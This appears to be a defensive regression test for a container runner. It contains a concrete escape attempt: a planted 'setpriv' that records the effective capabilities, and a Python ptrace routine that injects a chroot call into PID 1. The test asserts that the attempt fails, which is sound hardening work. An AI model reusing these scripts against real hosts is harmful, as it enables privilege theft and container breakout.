/** The way in as a way out: whoever enters a machine begins with everything. */

import assert from "node:assert/strict";
import { onEachHost } from "../hosts/shared.ts";
import { runScript, withMachine } from "../hosts/site.ts";
import { skip } from "../skip.ts";

/**
 * A root of the job's own, in which what a stage enters by is the job's, too: it would write down what it may.
 * bash stands outside of its root then, which is how it reaches /proc.
 */
const LAY = `
mkdir -p /own/run && cp -a /run/nspawn-runner-tools /own/run/ && cd /own/run/nspawn-runner-tools
for file in /bin/bash $(ldd /bin/bash | grep -o '/[^ ]*'); do cp --dereference --parents $file .; done
cat >usr/bin/setpriv <<'END'
#!/bin/bash
while read -r name value; do
  [ "$name" != CapEff: ] || echo "$value" >stolen
done <../proc/self/status
END
`;

/** Traces PID 1 and has it call chroot(2): its words lie below its stack. */
const MOVE = `
python3 - <<'END'
import ctypes, errno, os
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
def ptrace(request, data=None):
    if libc.ptrace(request, 1, None, data) < 0:
        raise SystemExit("ptrace: " + errno.errorcode[ctypes.get_errno()])
registers = (ctypes.c_ulonglong * 27)()
at = ctypes.addressof(registers)
ptrace(16) # PTRACE_ATTACH
os.waitpid(1, 0x40000000) # __WALL
ptrace(12, at) # PTRACE_GETREGS
before = list(registers)
with open("/proc/1/mem", "r+b", buffering=0) as memory:
    memory.seek(before[19] - 512)
    memory.write(b"/own\\0")
registers[10], registers[14], registers[15] = 161, before[19] - 512, 2**64 - 1 # rax, rdi, orig_rax
registers[16] = before[16] - 2 # the call that it waits in
ptrace(13, at) # PTRACE_SETREGS
ptrace(9) # PTRACE_SINGLESTEP
os.waitpid(1, 0x40000000)
ptrace(12, at)
assert registers[10] == 0, registers[10]
for index, value in enumerate(before): registers[index] = value
ptrace(13, at)
ptrace(17) # PTRACE_DETACH
END
ls /proc/1/root/
`;

const NAME = "no program of a job enters its machine, whatever root PID 1 has";

onEachHost(NAME, async (site) => {
  if (Deno.build.arch !== "x86_64") return skip(NAME, "the program knows x86-64's registers");
  const own = await site.with({ boot: false, private_users: "off" });
  await withMachine(own, async (id) => {
    const moved = await runScript(own, id, LAY + MOVE);
    if (/ptrace: EPERM/.test(moved.stderr)) return skip(NAME, "no job may trace its PID 1 here");
    assert.equal(moved.stdout, "run\n", moved.stderr);
    const entered = await runScript(own, id, "true");
    assert.equal(entered.code, 125, entered.stderr);
    const find = ["find", `${own.store}/.machines/run-${id}`, "-name", "stolen"];
    assert.equal((await own.host.exec(find)).stdout, "");
  });
});
